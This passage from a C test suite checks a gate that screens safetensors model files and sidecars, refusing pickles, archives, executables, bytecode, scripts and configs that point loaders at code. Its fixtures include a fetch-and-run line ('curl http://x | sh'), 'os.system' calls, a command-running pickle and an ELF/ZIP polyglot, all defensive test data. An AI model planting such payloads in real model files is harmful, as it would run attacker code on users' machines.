    st_verdict v =
        expect(&j, make_raw(bom, strlen(bom)), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    CHECK_EQ_U64(v.error.offset, 0);
    CHECK(strstr(v.error.detail, "byte order mark") != NULL);
    expect(&any, make_raw(bom, strlen(bom)), true, ST_FORMAT_TEXT, ST_OK);
    expect(&j, make_raw("null", 4), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&any, make_raw("null", 4), true, ST_FORMAT_TEXT, ST_OK);
    expect(&j, make_raw("1e99999", 7), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&j, make_raw("\"s\"", 3), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&j, make_raw("{\"a\":1e99999}", 13), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&any, make_raw("{\"a\":1e99999}", 13), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&j, make_raw("{\"a\":1} trailing", 16), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&j, make_raw("", 0), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    expect(&j, make_raw(" \n", 2), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    v = expect(&j, make_raw("{{ bos }}", 9), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    CHECK_EQ_U64(v.error.offset, 1);
    expect(&j, make_raw("# title\n", 8), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    /* safetensors is not JSON; a pickle or an archive is still named */
    expect(&j, make_st(ONE_F32, f32_data, 24), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '.'};
    expect(&j, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    uint8_t zip[64];
    memset(zip, 0, sizeof zip);
    memcpy(zip, "PK\3\4\x14\0\0\0\0\0", 10);
    expect(&j, make_raw(zip, sizeof zip), false, ST_FORMAT_ZIP, ST_REFUSED_FORMAT);
    /* strict JSON passes, whitespace around it included */
    const char *ok = "\n\t {\"a\": [1, 2.5e3, -0.0], \"b\": null}\n";
    expect(&j, make_raw(ok, strlen(ok)), true, ST_FORMAT_JSON, ST_OK);
    expect(&j, make_raw("[1,2]", 5), true, ST_FORMAT_JSON, ST_OK);
    /* a head of whitespace only (longer than the window) is left to the parser */
    input spaced = {malloc(70000), 70000};
    memset(spaced.bytes, ' ', spaced.len);
    memcpy(spaced.bytes + spaced.len - 2, "{}", 2);
    expect(&j, spaced, true, ST_FORMAT_JSON, ST_OK);
    /* bounded like any sidecar */
    st_gate_config small = j;
    small.sidecar_max_size = 10;
    expect(&small, make_raw("{\"a\":12345678}", 14), false, ST_FORMAT_JSON, ST_SIDECAR_TOO_LARGE);
}

/* Feeds in until st_gate_refusal_certain(); returns the bytes fed then (in->len if
 * never) and the provisional verdict. */
static size_t feed_until_certain(const st_gate_config *config, const input *in, size_t piece,
                                 st_verdict *provisional, st_verdict *final)
{
    st_gate *gate = st_gate_new(config, in->len);
    size_t pos = 0, certain_at = in->len;
    memset(provisional, 0, sizeof *provisional);
    while (pos < in->len) {
        size_t n = in->len - pos < piece ? in->len - pos : piece;
        st_gate_feed(gate, in->bytes + pos, n);
        pos += n;
        if (certain_at == in->len && st_gate_refusal_certain(gate)) {
            certain_at = pos;
            st_gate_verdict(gate, provisional);
        }
    }
    st_gate_finish(gate);
    st_gate_verdict(gate, final);
    st_gate_free(gate);
    return certain_at;
}

/* F3: content refused whatever follows is known so from its head; until the end the
 * verdict holds the head's refusal, the same in every feeding. */
TEST(refusal_is_certain_before_the_end)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    /* N = 2^40 (above the limit), byte 8 'x': not an attempt, nothing named */
    input doomed = {malloc(300000), 300000};
    memset(doomed.bytes, 'x', doomed.len);
    put_le(doomed.bytes, 1ULL << 40, 8);
    st_verdict first = {0}, provisional, final, whole;
    st_gate_check_buffer(&c, doomed.bytes, doomed.len, &whole);
    const size_t pieces[] = {1, 7, 4096, 65536, 100000};
    for (size_t k = 0; k < sizeof pieces / sizeof pieces[0]; k++) {
        if (pieces[k] == 1)
            doomed.len = 70000; /* byte by byte on a shorter body */
        size_t at = feed_until_certain(&c, &doomed, pieces[k], &provisional, &final);
        doomed.len = 300000;
        CHECK(at >= ST_SNIFF_HEAD_MAX && at < ST_SNIFF_HEAD_MAX + pieces[k] + 1);
        CHECK(!provisional.valid && provisional.error.reason == ST_REFUSED_FORMAT);
        CHECK(provisional.format == ST_FORMAT_UNKNOWN);
        if (k == 0)
            first = provisional;
        CHECK(verdicts_equal(&first, &provisional));
        CHECK(final.error.reason == whole.error.reason && final.format == whole.format);
    }
    /* the gate stays bounded and keeps reading after certainty */
    st_gate *gate = st_gate_new(&c, ST_FILE_SIZE_UNKNOWN);
    for (int i = 0; i < 100; i++)
        CHECK(st_gate_feed(gate, doomed.bytes, doomed.len) == ST_GATE_CONTINUE);
    CHECK(st_gate_refusal_certain(gate));
    CHECK(st_gate_finish(gate) == ST_GATE_REFUSED);
    st_gate_free(gate);
    input_free(&doomed);

    /* a ZIP behind a long prefix: certain from the head ("unknown"), named at the end */
    static const uint8_t pickled[] = {0x80, 0x02, 'N', '.'};
    input prefixed = make_prefixed_zip(100 * 1024, false, "archive/data.pkl", pickled, 4);
    feed_until_certain(&c, &prefixed, 4096, &provisional, &final);
    CHECK(provisional.format == ST_FORMAT_UNKNOWN);
    CHECK(final.format == ST_FORMAT_PYTORCH_ZIP || final.format == ST_FORMAT_ZIP);
    /* the sidecar kind: the head's refusal is sidecar_text_invalid */
    st_gate_config sc = config_of(ST_GATE_SIDECAR);
    feed_until_certain(&sc, &prefixed, 4096, &provisional, &final);
    CHECK(provisional.error.reason == ST_SIDECAR_TEXT_INVALID);
    CHECK(final.error.reason == ST_REFUSED_FORMAT);
    input_free(&prefixed);

    /* never for what can still pass, nor before the header is judged */
    input valid = make_st(ONE_F32, f32_data, 24);
    CHECK(feed_until_certain(&c, &valid, 1, &provisional, &final) == valid.len);
    CHECK(final.valid);
    input_free(&valid);
    input text = {malloc(200000), 200000};
    memset(text.bytes, 'a', text.len);
    CHECK(feed_until_certain(&sc, &text, 4096, &provisional, &final) == text.len);
    CHECK(final.valid);
    input_free(&text);
}

/* F11: the tensor of a verdict is the whole name, U+0000 included. */
/* Code a loader would execute (st_code.h, docs/DESIGN.md §3): by name, by content
 * (ELF, PE, Mach-O, .pyc, #!) in every kind, and in JSON (a notebook, auto_map). */
static st_gate_config named(st_gate_kind kind, const char *name)
{
    st_gate_config c = config_of(kind);
    c.name = name;
    return c;
}

TEST(code_is_refused)
{
    CHECK(st_code_reason_by_name("modeling_evil.py") == ST_CODE_PYTHON);
    CHECK(st_code_reason_by_name("sub/dir/Run.PYW") == ST_CODE_PYTHON);
    CHECK(st_code_reason_by_name("x.pyc") == ST_CODE_COMPILED_PYTHON);
    CHECK(st_code_reason_by_name("demo.ipynb") == ST_CODE_NOTEBOOK);
    CHECK(st_code_reason_by_name("setup.sh") == ST_CODE_SCRIPT);
    CHECK(st_code_reason_by_name("run.BAT") == ST_CODE_SCRIPT);
    CHECK(st_code_reason_by_name("ops/kernel.so") == ST_CODE_NATIVE);
    CHECK(st_code_reason_by_name("x.dll") == ST_CODE_NATIVE);
    const char *not_code[] = {"README.md",    "config.json", "tokenizer.json", ".gitattributes",
                              "notes.py.txt", "py",          "model.bin",      "sh",
                              "merges.txt",   "x.json",      "spiece.model",   NULL};
    for (size_t i = 0; i < sizeof not_code / sizeof not_code[0]; i++)
        CHECK(st_code_reason_by_name(not_code[i]) == ST_OK);

    /* by name: once the head is in; the format is what the content is */
    const char *py = "import os\nos.system('id')\n";
    st_gate_config c = named(ST_GATE_SIDECAR, "modeling_evil.py");
    st_verdict v = expect(&c, make_raw(py, strlen(py)), false, ST_FORMAT_TEXT, ST_CODE_PYTHON);
    CHECK(strstr(v.error.detail, "modeling_evil.py") != NULL);
    /* the same text under another name is text */
    c = named(ST_GATE_SIDECAR, "notes.txt");
    expect(&c, make_raw(py, strlen(py)), true, ST_FORMAT_TEXT, ST_OK);
    c = named(ST_GATE_SIDECAR, "x.sh");
    expect(&c, make_raw("", 0), false, ST_FORMAT_UNKNOWN, ST_CODE_SCRIPT);
    c = named(ST_GATE_SAFETENSORS, "kernel.so");
    expect(&c, make_st(ONE_F32, f32_data, 24), false, ST_FORMAT_UNKNOWN, ST_CODE_NATIVE);
    /* a pickle named .py is named as the pickle */
    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '.'};
    c = named(ST_GATE_SIDECAR, "evil.py");
    expect(&c, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);

    /* by content, whatever the name and kind */
    uint8_t elf[128];
    memset(elf, 0, sizeof elf);
    memcpy(elf,
           "\x7f"
           "ELF\x02\x01\x01",
           7);
    st_gate_config kinds[] = {
        named(ST_GATE_SIDECAR, "model.bin"), named(ST_GATE_SAFETENSORS, "model.safetensors"),
        named(ST_GATE_SIDECAR_JSON, "config.json"), config_of(ST_GATE_SIDECAR)};
    for (size_t k = 0; k < sizeof kinds / sizeof kinds[0]; k++) {
        v = expect(&kinds[k], make_raw(elf, sizeof elf), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
        CHECK(strstr(v.error.detail, "ELF") != NULL);
    }
    CHECK(strstr(v.error.detail, "the file") != NULL);
    uint8_t pe[256];
    memset(pe, 0, sizeof pe);
    memcpy(pe, "MZ", 2);
    pe[0x3c] = 0x80;
    memcpy(pe + 0x80, "PE\0\0", 4);
    c = named(ST_GATE_SIDECAR, "weights.bin");
    expect(&c, make_raw(pe, sizeof pe), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
    /* "MZ" without a PE signature is two letters of text */
    expect(&c, make_raw("MZ is a state\n", 14), true, ST_FORMAT_TEXT, ST_OK);
    uint8_t macho[64] = {0xcf, 0xfa, 0xed, 0xfe, 0x07};
    expect(&c, make_raw(macho, sizeof macho), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
    /* CPython 3.12 bytecode: magic 3531, CR LF, flags, date, size, then a code object */
    uint8_t pyc[64] = {0xcb, 0x0d, '\r', '\n'};
    pyc[16] = 0xe3;
    expect(&c, make_raw(pyc, sizeof pyc), false, ST_FORMAT_PYTHON_BYTECODE,
           ST_CODE_COMPILED_PYTHON);
    pyc[16] = 0x00; /* no code object where one must be: not bytecode */
    v = expect(&c, make_raw(pyc, sizeof pyc), false, ST_FORMAT_UNKNOWN, ST_SIDECAR_TEXT_INVALID);
    const char *script = "#!/bin/sh\ncurl http://x | sh\n";
    expect(&c, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
    st_gate_config st = config_of(ST_GATE_SAFETENSORS);
    /* text whose first line is two letters matches a bytecode number, CR LF and 'c' at
     * offset 8, but text is never bytecode */
    expect(&st, make_raw("Hi\r\nThe cat sat\r\n", 17), false, ST_FORMAT_TEXT, ST_REFUSED_FORMAT);
    expect(&st, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
    const char *env = "#! /usr/bin/env python3\nprint(1)\n";
    expect(&c, make_raw(env, strlen(env)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
    /* "#!" not followed by a path is a Markdown line, not a script */
    expect(&c, make_raw("#!important\n", 12), true, ST_FORMAT_TEXT, ST_OK);

    /* JSON: a notebook, and configuration pointing a loader at code */
    const char *nb = "{\"cells\": [], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}";
    c = named(ST_GATE_SIDECAR_JSON, "demo.json");
    expect(&c, make_raw(nb, strlen(nb)), false, ST_FORMAT_JSON, ST_CODE_NOTEBOOK);
    c = named(ST_GATE_SIDECAR, "demo.ipynb");
    expect(&c, make_raw(nb, strlen(nb)), false, ST_FORMAT_JSON, ST_CODE_NOTEBOOK);
    const char *am = "{\"model_type\": \"evil\", \"auto_map\": {\"AutoModel\": "
                     "\"modeling_evil.EvilModel\"}}";
    c = named(ST_GATE_SIDECAR_JSON, "config.json");
    v = expect(&c, make_raw(am, strlen(am)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
    CHECK(strstr(v.error.detail, "config.json") != NULL);
    CHECK(strstr(v.error.detail, "auto_map") != NULL);
    CHECK(strstr(v.error.detail, "modeling_evil.EvilModel") != NULL);
    const char *cp = "{\"custom_pipelines\": {\"x\": {\"impl\": \"pipe.P\"}}}";
    c = named(ST_GATE_SIDECAR_JSON, "config.json");
    v = expect(&c, make_raw(cp, strlen(cp)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
    CHECK(strstr(v.error.detail, "custom_pipelines") != NULL);
    /* tokenizer_config.json's list form */
    const char *tk = "{\"auto_map\": {\"AutoTokenizer\": [\"tok.T\", null]}}";
    c = named(ST_GATE_SIDECAR_JSON, "tokenizer_config.json");
    expect(&c, make_raw(tk, strlen(tk)), false, ST_FORMAT_JSON, ST_CODE_REFERENCE);
    /* an empty or null auto_map, or one nested below the top, points at nothing */
    const char *fine[] = {"{\"auto_map\": {}}", "{\"auto_map\": null}",
                          "{\"x\": {\"auto_map\": {\"A\": \"m.M\"}}}", "{\"cells\": []}"};
    for (size_t i = 0; i < sizeof fine / sizeof fine[0]; i++)
        expect(&c, make_raw(fine[i], strlen(fine[i])), true, ST_FORMAT_JSON, ST_OK);
}

/* The code policy (st_gate_config.allow_code, docs/DESIGN.md "The code policy"): what
 * is refused only as code is admitted, with verdict.code; everything else about the
 * file is judged as without it, in every feeding. */
static st_gate_config allowing(st_gate_kind kind, const char *name)
{
    st_gate_config c = named(kind, name);
    c.allow_code = true;
    return c;
}

static void expect_code(const st_gate_config *c, input in, st_format format, st_reason code)
{
    st_verdict v = expect(c, in, true, format, ST_OK);
    CHECK_STR(st_reason_name(v.code.reason), st_reason_name(code));
    CHECK(v.code.detail[0] != '\0');
}

TEST(code_policy_admits_only_code)
{
    const char *py = "import os\nos.system('id')\n";
    st_gate_config c = allowing(ST_GATE_SIDECAR, "modeling_x.py");
    expect_code(&c, make_raw(py, strlen(py)), ST_FORMAT_TEXT, ST_CODE_PYTHON);
    expect_code(&c, make_raw("", 0), ST_FORMAT_TEXT, ST_CODE_PYTHON);
    /* text that is not text, and a pickle, stay refused under a code name */
    static const uint8_t binary[] = {'a', 0x00, 0xff, 0xfe, 'b', '\n'};
    expect(&c, make_raw(binary, sizeof binary), false, ST_FORMAT_UNKNOWN, ST_SIDECAR_TEXT_INVALID);
    static const uint8_t p2[] = {0x80, 0x02, '}', 'q', 0x00, '.'};
    st_verdict v = expect(&c, make_raw(p2, sizeof p2), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    CHECK(v.code.reason == ST_OK);
    const char *p0 = "cposix\nsystem\n(S'id'\ntR.";
    c = allowing(ST_GATE_SIDECAR, "run.sh");
    expect(&c, make_raw(p0, strlen(p0)), false, ST_FORMAT_PICKLE, ST_REFUSED_FORMAT);
    /* a script, by its #! line or its name */
    const char *script = "#!/bin/sh\necho hi\n";
    expect_code(&c, make_raw(script, strlen(script)), ST_FORMAT_TEXT, ST_CODE_SCRIPT);
    c = allowing(ST_GATE_SIDECAR, "README");
    expect_code(&c, make_raw(script, strlen(script)), ST_FORMAT_TEXT, ST_CODE_SCRIPT);
    /* JSON: a notebook, auto_map; still strict JSON */
    const char *nb = "{\"cells\": [], \"metadata\": {}, \"nbformat\": 4}";
    c = allowing(ST_GATE_SIDECAR, "demo.ipynb");
    expect_code(&c, make_raw(nb, strlen(nb)), ST_FORMAT_JSON, ST_CODE_NOTEBOOK);
    const char *am = "{\"auto_map\": {\"AutoModel\": \"modeling_x.X\"}}";
    c = allowing(ST_GATE_SIDECAR_JSON, "config.json");
    expect_code(&c, make_raw(am, strlen(am)), ST_FORMAT_JSON, ST_CODE_REFERENCE);
    expect(&c, make_raw("{\"auto_map\": {", 14), false, ST_FORMAT_JSON, ST_SIDECAR_JSON_INVALID);
    /* plain files carry no mark */
    v = expect(&c, make_raw("{\"a\": 1}", 8), true, ST_FORMAT_JSON, ST_OK);
    CHECK(v.code.reason == ST_OK);
    /* native code and bytecode: streamed, admitted at the end */
    uint8_t elf[200000];
    memset(elf, 0x5a, sizeof elf);
    memcpy(elf,
           "\x7f"
           "ELF\x02\x01\x01\x00",
           8);
    c = allowing(ST_GATE_SIDECAR, "ops/kernel.so");
    expect_code(&c, make_raw(elf, sizeof elf), ST_FORMAT_NATIVE, ST_CODE_NATIVE);
    c = allowing(ST_GATE_SIDECAR, "weights.bin");
    expect_code(&c, make_raw(elf, 128), ST_FORMAT_NATIVE, ST_CODE_NATIVE);
    uint8_t pyc[64] = {0xcb, 0x0d, '\r', '\n'};
    pyc[16] = 0xe3;
    c = allowing(ST_GATE_SIDECAR, "x.pyc");
    expect_code(&c, make_raw(pyc, sizeof pyc), ST_FORMAT_PYTHON_BYTECODE, ST_CODE_COMPILED_PYTHON);
    /* the admitted native file is not certain to be refused while it streams */
    st_gate *gate = st_gate_new(&c, sizeof elf);
    CHECK(gate != NULL);
    if (gate != NULL) {
        CHECK(st_gate_feed(gate, elf, 100000) == ST_GATE_CONTINUE);
        CHECK(!st_gate_refusal_certain(gate));
        st_gate_free(gate);
    }
    /* a ZIP (a pickle inside) behind an ELF header is found from its end and refused */
    static const uint8_t pickled[] = {0x80, 0x02, 'N', '.'};
    input polyglot = make_prefixed_zip(100 * 1024, false, "archive/data.pkl", pickled, 4);
    memcpy(polyglot.bytes,
           "\x7f"
           "ELF\x02\x01\x01\x00",
           8);
    c = allowing(ST_GATE_SIDECAR, "ops/kernel.so");
    v = judge(&c, &polyglot, true);
    CHECK(!v.valid && v.code.reason == ST_OK && v.error.reason == ST_REFUSED_FORMAT);
    CHECK(v.format == ST_FORMAT_PYTORCH_ZIP || v.format == ST_FORMAT_ZIP);
    input_free(&polyglot);
    /* and a small one, judged whole */
    polyglot = make_prefixed_zip(200, false, "archive/data.pkl", pickled, 4);
    memcpy(polyglot.bytes,
           "\x7f"
           "ELF\x02\x01\x01\x00",
           8);
    v = judge(&c, &polyglot, true);
    CHECK(!v.valid && v.code.reason == ST_OK && v.error.reason == ST_REFUSED_FORMAT);
    input_free(&polyglot);
    /* a *.safetensors or *.json name still promises its format */
    c = allowing(ST_GATE_SAFETENSORS, "model.safetensors");
    expect(&c, make_raw(elf, 128), false, ST_FORMAT_NATIVE, ST_CODE_NATIVE);
    c = allowing(ST_GATE_SAFETENSORS, "kernel.so");
    expect(&c, make_st(ONE_F32, f32_data, 24), false, ST_FORMAT_UNKNOWN, ST_CODE_NATIVE);
    c = allowing(ST_GATE_SIDECAR_JSON, "config.json");
    v = judge(&c, &(input){.bytes = elf, .len = 128}, true);
    CHECK(!v.valid && v.code.reason == ST_OK);
}

TEST(tensor_names_keep_their_length)
{
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    input in =
        make_st("{\"a\\u0000b\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", "x", 1);
    st_verdict v = expect(&c, in, false, ST_FORMAT_SAFETENSORS, ST_TENSOR_NAME_CONTROL);
    CHECK_EQ_U64(v.error.tensor_len, 3);
    CHECK(memcmp(v.error.tensor, "a\0b", 4) == 0);
    /* a name cut at the bound is cut between characters: 1,023 ASCII bytes then 'é' */
    st_error err;
    st_error_clear(&err);
    char name[1025];
    memset(name, 'a', 1023);
    memcpy(name + 1023, "\xc3\xa9", 2);
    st_error_set_tensor(&err, name, 1025);
    CHECK_EQ_U64(err.tensor_len, 1023);
    st_error_set(&err, ST_TENSOR_NAME_EMPTY, 0, "ab", "x");
    CHECK_EQ_U64(err.tensor_len, 2);
    st_error_clear(&err);
    CHECK_EQ_U64(err.tensor_len, 0);
}

/* st_gate_skip: past an accepted header, the data section may be passed over unread;
 * only its length then decides, as when it is fed (size unknown up front, so the end
 * of the input is what judges it); never while a value check is asked. */
static void count_release(void *context, uint64_t from, uint64_t to)
{
    size_t *calls = context;
    CHECK(from >= 8 && from <= to);
    (*calls)++;
}

/* A header of count F32 [2] tensors (well past the sniff window), the name of
 * tensor dup_at given again as the last name when dup_at < count. */
static input long_header_file(int count, int dup_at)
{
    size_t cap = (size_t)count * 96 + 64;
    char *h = malloc(cap);
    size_t n = 0;
    h[n++] = '{';
    for (int i = 0; i < count; i++) {
        int name = i == count - 1 && dup_at < count ? dup_at : i;
        n += (size_t)snprintf(h + n, cap - n,
                              "%s\"layer.%d.weight\":{\"dtype\":\"F32\",\"shape\":[2],"
                              "\"data_offsets\":[%d,%d]}",
                              i ? "," : "", name, 8 * i, 8 * i + 8);
    }
    h[n++] = '}';
    uint8_t *data = calloc((size_t)count, 8);
    input in = make_st_n(h, n, data, (size_t)count * 8);
    free(h);
    free(data);
    return in;
}

/* The header judged in the caller's mapping (config.input, verdict_only) gives the
 * verdict of the gate that copies it, fed in small pieces; only the counts remain. */
TEST(header_judged_in_the_input)
{
    for (int variant = 0; variant < 3; variant++) {
        input in = long_header_file(4000, variant == 1 ? 17 : 4000);
        CHECK(in.len > 4 * ST_SNIFF_HEAD_MAX);
        /* variant 2: the input ends inside the header */
        size_t fed = variant == 2 ? in.len / 2 : in.len;
        st_gate_config plain = config_of(ST_GATE_SAFETENSORS);
        st_verdict expected;
        st_gate_check_buffer(&plain, in.bytes, fed, &expected);

        size_t calls = 0;
        st_gate_config c = config_of(ST_GATE_SAFETENSORS);
        c.verdict_only = true;
        c.input = in.bytes;
        c.input_len = fed;
        c.limits.release = count_release;
        c.limits.release_context = &calls;
        st_gate *g = st_gate_new(&c, fed);
        CHECK(g != NULL);
        st_gate_status status = ST_GATE_CONTINUE;
        for (size_t at = 0; at < fed && status == ST_GATE_CONTINUE; at += 4096)
            status = st_gate_feed(g, in.bytes + at, fed - at < 4096 ? fed - at : 4096);
        st_gate_finish(g);
        st_verdict v;
        st_gate_verdict(g, &v);
        CHECK_EQ_U64(v.valid, variant == 0);
        CHECK_EQ_U64(v.valid, expected.valid);
        CHECK_STR(st_reason_name(v.error.reason), st_reason_name(expected.error.reason));
        CHECK_EQ_U64(v.error.offset, expected.error.offset);
        CHECK_STR(v.error.detail, expected.error.detail);
        if (variant == 0) {
            const st_file *f = st_gate_file(g);
            CHECK(f != NULL && f->tensor_count == 4000 && f->tensors == NULL);
            CHECK(st_gate_stats(g) == NULL);
        }
        if (variant == 1)
            CHECK_STR(st_reason_name(v.error.reason), "json_duplicate_key");
        if (variant != 2)
            CHECK(calls >= 1); /* the header (> ST_HEADER_RELEASE_STEP) was given back */
        st_gate_free(g);
        input_free(&in);
    }
}

TEST(data_section_may_be_skipped)
{
    static const float nan_data[6] = {NAN, 1, 2, 3, 4, 5};
    input in = make_st(ONE_F32, nan_data, sizeof nan_data);
    size_t head = in.len - sizeof nan_data;
    /* exact length: valid, although the skipped bytes hold a NaN; no stats then */
    for (int delta = -1; delta <= 1; delta++) {
        st_gate_config c = config_of(ST_GATE_SAFETENSORS);
        st_gate *g = st_gate_new(&c, ST_FILE_SIZE_UNKNOWN);
        CHECK(g != NULL);
        CHECK(!st_gate_data_skippable(g)); /* the header is not in yet */
        CHECK_EQ_U64(st_gate_skip(g, 4), ST_GATE_CONTINUE);
        CHECK_EQ_U64(st_gate_bytes_seen(g), 0);
        CHECK_EQ_U64(st_gate_feed(g, in.bytes, head), ST_GATE_CONTINUE);
        CHECK(st_gate_data_skippable(g));
        st_gate_skip(g, (uint64_t)((int)sizeof nan_data + delta));
        st_gate_finish(g);
        st_verdict v;
        st_gate_verdict(g, &v);
        CHECK_EQ_U64(v.valid, delta == 0);
        if (delta < 0)
            CHECK_STR(st_reason_name(v.error.reason), "data_truncated");
        if (delta > 0)
            CHECK_STR(st_reason_name(v.error.reason), "data_trailing");
        if (delta == 0) {
            CHECK(st_gate_file(g) != NULL);
            CHECK(st_gate_stats(g) == NULL);
        }
        st_gate_free(g);
    }
    /* a value check reads every byte: never skippable, the NaN is found */
    st_gate_config c = config_of(ST_GATE_SAFETENSORS);
    c.refuse_nonfinite = true;
    st_gate *g = st_gate_new(&c, in.len);
    CHECK(g != NULL);
    st_gate_feed(g, in.bytes, head);
    CHECK(!st_gate_data_skippable(g));
    st_gate_skip(g, sizeof nan_data);
    CHECK_EQ_U64(st_gate_bytes_seen(g), head);
    st_gate_feed(g, in.bytes + head, sizeof nan_data);
    st_gate_finish(g);
    st_verdict v;
    st_gate_verdict(g, &v);
    CHECK_STR(st_reason_name(v.error.reason), "nonfinite_values");
    st_gate_free(g);
    input_free(&in);
}

int main(int argc, char **argv)
{
    (void)argc;
    RUN(valid_files_pass_in_every_feeding);
    RUN(length_bytes_spelling_a_zip_magic_stay_safetensors);
    RUN(other_formats_are_refused_by_format);
    RUN(malformed_safetensors_have_precise_reasons);
    RUN(bad_header_is_refused_before_the_body);
    RUN(nonfinite_policy);
    RUN(sidecars);
    RUN(feeding_never_changes_the_verdict);
    RUN(json_sidecars_are_strict);
    RUN(refusal_is_certain_before_the_end);
    RUN(tensor_names_keep_their_length);
    RUN(code_is_refused);
    RUN(code_policy_admits_only_code);
    RUN(data_section_may_be_skipped);
    RUN(header_judged_in_the_input);
    return test_report(argv[0]);
}
